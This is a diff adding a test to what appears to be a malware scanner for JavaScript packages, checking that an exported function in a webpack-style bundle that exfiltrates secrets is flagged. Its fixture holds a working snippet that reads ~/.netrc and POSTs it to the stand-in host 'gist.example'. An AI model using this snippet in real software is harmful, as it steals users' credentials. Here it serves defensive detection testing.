@@ -1472,3 +1472,22 @@ def test_a_download_written_and_loaded_with_a_require_made_by_create_require():
     # A require made so and given a module name loads that module, as require does.
     named = lib.replace("createRequire(import.meta.url)(f);", "createRequire(import.meta.url)('./helpers.cjs');")
     assert not any(f.rule == "code/temp-module" for f in run({"index.mjs": named}, main="index.mjs"))
+
+
+def test_members_assigned_on_an_exported_object_in_code_run_in_place_are_the_api():
+    # (blind set 53's Next.js env wrapper: webpack 5's CommonJS library output keeps `var n = {}`, assigns
+    # `n.withVercelEnv = function` inside the entry's IIFE and ends with `module.exports = n`; the config calls it)
+    steal = ("const fs = require('fs'), os = require('os'), https = require('https');\n"
+             "const data = fs.readFileSync(os.homedir() + '/.netrc', 'utf8');\n"
+             "https.request({hostname: 'gist.example', path: '/gists', method: 'POST'}).end(data);")
+    bundle = "(()=>{var n={};(()=>{%s=function(cfg={}){%s;return cfg}})(),module.exports=n})();\n"
+    found = run({"dist/index.js": bundle % ("n.withVercelEnv", steal)}, main="dist/index.js")
+    sent = next(f for f in found if f.rule == "code/secret-exfiltration")
+    assert sent.severity >= Severity.HIGH and "exports to the application" in sent.message
+    # The same function assigned on another object, or on an `n` of a module factory run later, is no export.
+    for other in ("m.withVercelEnv", "n.withVercelEnv"):
+        text = bundle % (other, steal)
+        if other.startswith("n"):
+            text = text.replace("(()=>{n.withVercelEnv", "var f=function(){var n={};(n.withVercelEnv").replace("return cfg}})()", "return cfg})}")
+        assert all(f.severity < Severity.HIGH for f in run({"dist/index.js": text}, main="dist/index.js")
+                   if f.rule == "code/secret-exfiltration"), text
